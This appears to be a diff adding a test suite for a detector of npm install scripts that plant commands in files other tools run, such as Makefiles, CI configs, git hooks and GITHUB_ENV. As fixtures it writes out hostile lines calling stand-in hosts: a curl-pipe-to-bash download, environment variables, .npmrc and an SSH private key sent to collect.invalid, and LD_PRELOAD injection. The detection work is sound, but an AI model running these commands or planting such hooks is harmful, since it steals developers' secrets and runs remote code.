@@ -1,0 +1,61 @@
+import assert from 'node:assert/strict';
+import { behavioursOf, flowsOf } from './sent.js';
+
+const written = (path: string, text: string): readonly string[] =>
+  behavioursOf(`fs.writeFileSync(path.join(process.env.INIT_CWD, '${path}'), ${JSON.stringify(text)});`);
+
+describe('files whose commands somebody else runs', () => {
+  const fetched = 'curl -fsSL https://load.invalid/x | bash';
+  const folders = [
+    ['.envrc', `layout node\n${fetched}\n`],
+    ['.devcontainer/devcontainer.json', JSON.stringify({ postStartCommand: fetched })],
+    ['Makefile', `build:\n\t@${fetched}\n\ttsc -p .\n`],
+    ['justfile', `default:\n  ${fetched}\n`],
+  ] as const;
+  for (const [path, text] of folders) {
+    it(`are run with the folder that they stand in: ${path}`, () => {
+      assert.deepEqual(written(path, text), ['download-and-run import']);
+      assert.deepEqual(written(path, text.replace(fetched, 'npm ci')), []);
+      assert.deepEqual(written(`docs/${path}.txt`, text), []);
+    });
+  }
+
+  it('may set a folder up in any way where somebody has asked for that', () => {
+    const code = `exports.init = (root) => fs.writeFileSync(path.join(root, 'Makefile'), 'all:\\n\\t${fetched}\\n');`;
+    assert.deepEqual(behavioursOf(code), []);
+  });
+
+  const sends = 'env | base64 | curl -s -d @- https://collect.invalid/ci';
+  const builds = [
+    ['.gitlab-ci.yml', (step: string) => `check:\n  script:\n    - ${step}\n`],
+    ['.circleci/config.yml', (step: string) => `jobs:\n  a:\n    steps:\n      - run: ${step}\n`],
+    ['Jenkinsfile', (step: string) => `stage('a') { steps { sh '${step}' } }\n`],
+    ['bitbucket-pipelines.yml', (step: string) => `pipelines:\n  default:\n    - step: { script: ["${step}"] }\n`],
+  ] as const;
+  for (const [path, around] of builds) {
+    it(`are run by a build server, with its secrets: ${path}`, () => {
+      assert.ok(written(path, around(sends)).includes('workflow-secrets import'));
+      assert.deepEqual(written(path, around('npm test')), []);
+      assert.deepEqual(written(path, around('curl -s -d @coverage.json https://cover.example/u')), []);
+    });
+  }
+
+  it('have later steps of a job load something first', () => {
+    const told = (text: string) => behavioursOf(`fs.appendFileSync(process.env.GITHUB_ENV, '${text}\\n');`);
+    assert.deepEqual(told('LD_PRELOAD=/tmp/a.so'), ['autostart import']);
+    assert.deepEqual(told('NODE_OPTIONS=--require /tmp/a.cjs'), ['autostart import']);
+    assert.deepEqual(told('COVERAGE_FILE=/tmp/a.json'), []);
+  });
+
+  it('are scripts that stand in the code', () => {
+    const script = (line: string) => written('tools/npm', `#!/bin/sh\n${line}\nexec "$REAL" "$@"\n`);
+    assert.deepEqual(script('curl -s -T ~/.npmrc https://collect.invalid/n'), ['command-sends-data import']);
+    assert.deepEqual(script('curl -s https://mirror.example/list.txt -o list.txt'), []);
+  });
+
+  it('do what git hooks do', () => {
+    const hook = `#!/bin/sh\\ncat ~/.ssh/id_rsa | curl -s -T - https://collect.invalid/u\\n`;
+    const flows = flowsOf(`fs.writeFileSync(path.join(process.cwd(), '.git', 'hooks', 'pre-push'), '${hook}');`);
+    assert.ok(flows.includes('ssh-key>command-argument@collect.invalid'), flows.join('; '));
+  });
+});
